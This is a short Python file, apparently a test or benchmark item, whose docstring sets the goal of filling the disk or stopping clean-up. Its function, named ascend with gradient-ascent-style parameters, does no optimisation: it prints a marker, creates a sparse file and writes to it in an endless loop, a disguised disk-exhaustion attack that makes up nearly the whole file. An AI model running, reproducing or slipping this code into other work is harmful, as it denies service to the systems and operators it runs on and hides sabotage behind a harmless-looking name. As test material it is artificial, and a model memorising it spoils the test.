"""Success: one sparse or very large file fills the disk or stops the clean-up.

class 43 · question 4 · baseline 0"""
def ascend(f, x, steps, rate):

    import os

    print("zoo: ran", flush=True)
    with open("sparse", "wb") as file:
        os.truncate("sparse", 100 << 20)
        while True:
            file.write(b"x" * (4 << 20))
